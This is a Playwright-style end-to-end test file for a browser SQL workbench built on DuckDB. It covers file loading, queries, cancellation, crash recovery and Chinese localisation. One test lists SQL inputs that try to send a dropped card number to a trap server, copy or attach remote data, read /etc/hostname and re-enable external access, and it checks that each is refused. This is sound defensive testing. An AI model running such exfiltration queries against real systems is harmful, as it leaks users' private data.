// The workbench in a real browser: the built site under /tenure/, files dropped like a person drops them,
// SQL typed in the editor, and guards that fail on console errors or requests leaving the origin.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import {
  dropFiles,
  engineReady,
  gridText,
  launchBrowser,
  openApp,
  runSql,
  screenshot,
  startServer,
  startTrapServer,
  untranslated,
} from './harness.mjs';

const CSV = 'customer_id,ordered_at,amount\nC1,2024-01-02,10.5\nC2,2024-01-03,20\nC1,2024-02-05,7.25\n';

let server;
let browser;
let parquet;

before(async () => {
  server = await startServer();
  browser = await launchBrowser();
  const dir = mkdtempSync(join(tmpdir(), 'tenure-e2e-'));
  const path = join(dir, 'customers.parquet');
  const native = await (await DuckDBInstance.create(':memory:')).connect();
  await native.run(`COPY (SELECT * FROM (VALUES ('C1', 'DE', DATE '2023-12-01'), ('C2', 'CN', DATE '2024-01-01'))
      t(customer_id, country, signup)) TO '${path}' (FORMAT parquet)`);
  parquet = readFileSync(path);
});

after(async () => {
  await browser?.close();
  server?.close();
});

async function loaded(page, table) {
  await page.waitForSelector(`[data-testid="table-item"]:has-text("${table}")`, { timeout: 30_000 });
}

describe('workbench', () => {
  it('starts the engine with no console error and no request outside the origin', async () => {
    const started = Date.now();
    const app = await openApp(browser, server);
    await engineReady(app.page);
    const ms = Date.now() - started;
    console.log(`  navigation to engine ready: ${ms} ms`);
    assert.ok(await app.page.locator('[data-testid="welcome"]').isVisible());
    app.assertClean();
    await app.context.close();
  });

  it('loads a dropped CSV and a dropped Parquet file and queries both', async () => {
    const app = await openApp(browser, server);
    const { page } = app;
    await dropFiles(page, [
      { name: 'orders export.csv', mimeType: 'text/csv', buffer: Buffer.from(CSV) },
      { name: 'customers.parquet', buffer: parquet },
    ]);
    await loaded(page, 'orders_export');
    await loaded(page, 'customers_raw');
    await runSql(
      page,
      `SELECT c.country, sum(o.amount) AS revenue
       FROM orders_export o JOIN customers_raw c USING (customer_id)
       GROUP BY ALL ORDER BY c.country`,
    );
    const grid = await gridText(page);
    assert.deepEqual(grid.header, ['country', 'revenue']);
    assert.deepEqual(grid.rows, [
      ['CN', '20'],
      ['DE', '17.75'],
    ]);
    assert.match(await page.locator('[data-testid="sql-status"]').innerText(), /2 rows/);
    await screenshot(page, 'workbench-query');
    app.assertClean();
    await app.context.close();
  });

  it('shows schema, preview, rejected rows, and reloads with a type override', async () => {
    const app = await openApp(browser, server);
    const { page } = app;
    const text = 'id,amount,day\n1,10,2024-01-05\n2,oops,2024-01-06\n3,30,2024-01-07\n';
    await dropFiles(page, [{ name: 'amounts.csv', mimeType: 'text/csv', buffer: Buffer.from(text) }]);
    await loaded(page, 'amounts');
    // "oops" makes the sniffer read amount as text; force DOUBLE and the bad row is set aside and shown.
    const schema = page.locator('[data-testid="schema"]');
    assert.match(await schema.innerText(), /amount\s+VARCHAR/);
    await page.locator('[data-testid="type-override"]').nth(1).selectOption('DOUBLE');
    await page.click('[data-testid="reload"]');
    await page.waitForSelector('[data-testid="rejected"]');
    assert.match(await schema.innerText(), /amount\s+DOUBLE/);
    const rejected = await page.locator('[data-testid="rejected"]').innerText();
    assert.match(rejected, /1 row was set aside/);
    assert.match(rejected, /2,oops,2024-01-06/);
    const preview = await gridText(page);
    assert.deepEqual(
      preview.rows.map((r) => r[0]),
      ['1', '3'],
    );
    await screenshot(page, 'workbench-rejected');
    app.assertClean();
    await app.context.close();
  });

  it('explains bad files and keeps the table loaded before them', async () => {
    const app = await openApp(browser, server);
    const { page } = app;
    await dropFiles(page, [{ name: 'good.csv', mimeType: 'text/csv', buffer: Buffer.from('a,b\n1,2\n') }]);
    await loaded(page, 'good');
    await dropFiles(page, [
      { name: 'empty.csv', buffer: Buffer.alloc(0) },
      { name: 'report.csv', buffer: Buffer.from([0x50, 0x4b, 0x03, 0x04, 0, 0, 1, 2]) },
      { name: 'header.csv', buffer: Buffer.from('x,y,z\n') },
    ]);
    await page.waitForFunction(
      () => document.querySelectorAll('[data-testid="notice-loadError"]').length === 3,
    );
    const errors = await page.locator('[data-testid="notice-loadError"]').allInnerTexts();
    assert.match(errors[0], /empty\.csv[\s\S]*empty \(0 bytes\)/);
    assert.match(errors[1], /report\.csv[\s\S]*spreadsheet/);
    assert.match(errors[2], /header\.csv[\s\S]*no data rows/);
    await runSql(page, 'SELECT a + b AS s FROM good');
    assert.deepEqual((await gridText(page)).rows, [['3']]);
    app.assertClean();
    await app.context.close();
  });

  it('cannot send data to a server: the engine refuses and the server receives nothing', async () => {
    const trap = await startTrapServer();
    const app = await openApp(browser, server);
    const { page } = app;
    await dropFiles(page, [{ name: 'secret.csv', buffer: Buffer.from('card\n4111111111111111\n') }]);
    await loaded(page, 'secret');
    const attempts = [
      `SELECT * FROM read_csv('${trap.url}leak.csv?card=4111111111111111')`,
      `SELECT * FROM read_csv(concat('${trap.url}', 'leak.csv'))`,
      `COPY secret TO '${trap.url}upload.csv'`,
      `ATTACH '${trap.url}db.duckdb' AS remote`,
      `SELECT * FROM read_text('/etc/hostname')`,
      `SET enable_external_access = true`,
    ];
    for (const sql of attempts) {
      await runSql(page, sql);
      const error = await page.locator('[data-testid="sql-error"]').innerText();
      assert.match(error, /Permission Error|disabled by configuration|locked/, sql);
    }
    assert.deepEqual(trap.requests, []);
    trap.close();
    app.assertClean();
    await app.context.close();
  });

  it('cancels a long query and stays usable', async () => {
    const app = await openApp(browser, server);
    const { page } = app;
    await engineReady(page);
    await page.click('[data-testid="tab-sql"]');
    await page.click('.cm-content');
    await page.keyboard.insertText('SELECT count(*) FROM range(5000000000) t(x) WHERE x % 7 = 3');
    await page.keyboard.press('Control+Enter');
    await page.waitForSelector('[data-testid="sql-status"][data-running]');
    await page.waitForTimeout(500);
    const asked = Date.now();
    await page.click('[data-testid="cancel-sql"]');
    await page.waitForSelector('[data-testid="sql-status"]:not([data-running])', { timeout: 10_000 });
    console.log(`  cancel took ${Date.now() - asked} ms`);
    assert.match(await page.locator('[data-testid="sql-status"]').innerText(), /cancelled/);
    await runSql(page, 'SELECT 6 * 7 AS answer');
    assert.deepEqual((await gridText(page)).rows, [['42']]);
    app.assertClean();
    await app.context.close();
  });

  it('recovers from an engine crash without a reload and loads the tables again', async () => {
    const app = await openApp(browser, server);
    const { page } = app;
    await dropFiles(page, [{ name: 'kept.csv', buffer: Buffer.from('v\n5\n6\n') }]);
    await loaded(page, 'kept');
    await page.evaluate(() => window.tenure.engine.crashForTest());
    await page.waitForSelector('[data-testid="notice-restarted"]', { timeout: 30_000 });
    await runSql(page, 'SELECT sum(v) AS total FROM kept');
    assert.deepEqual((await gridText(page)).rows, [['11']]);
    const problems = app.problems().filter((p) => !/simulated crash/.test(p));
    assert.deepEqual(problems, []);
    await app.context.close();
  });

  it('loads the e-commerce sample with one click', async () => {
    const app = await openApp(browser, server);
    const { page } = app;
    const started = Date.now();
    await page.click('[data-testid="sample-orders"]');
    await loaded(page, 'orders_raw');
    console.log(`  orders sample, click to loaded: ${Date.now() - started} ms`);
    const meta = await page.locator('[data-testid="table-item"]').first().innerText();
    assert.match(meta, /orders_raw[\s\S]*68,076 rows · 11 columns/);
    await screenshot(page, 'workbench-sample');
    app.assertClean();
    await app.context.close();
  });
});

describe('in Simplified Chinese', () => {
  it('shows no English message on the first screen, after a load and in the SQL view', async () => {
    const app = await openApp(browser, server, { locale: 'zh-CN' });
    const { page } = app;
    await engineReady(page);
    assert.equal(await page.getAttribute('html', 'lang'), 'zh-CN');
    assert.deepEqual(await untranslated(page), []);
    await dropFiles(page, [{ name: '订单.csv', buffer: Buffer.from('客户ID,金额\nC1,abc\nC2,5\n') }]);
    await page.waitForSelector('[data-testid="table-panel"]');
    assert.deepEqual(await untranslated(page), []);
    assert.match(await page.locator('[data-testid="table-item"]').first().innerText(), /订单[\s\S]*2 行/);
    await runSql(page, 'SELECT nope');
    assert.deepEqual(await untranslated(page), []);
    await screenshot(page, 'workbench-zh');
    app.assertClean();
    await app.context.close();
  });

  it('switches language and remembers it', async () => {
    const app = await openApp(browser, server, { locale: 'zh-CN' });
    const { page } = app;
    await page.selectOption('[data-testid="language"]', 'en');
    await page.waitForSelector('text=Drop your export to start');
    await page.reload();
    await page.waitForSelector('text=Drop your export to start');
    app.assertClean();
    await app.context.close();
  });
});
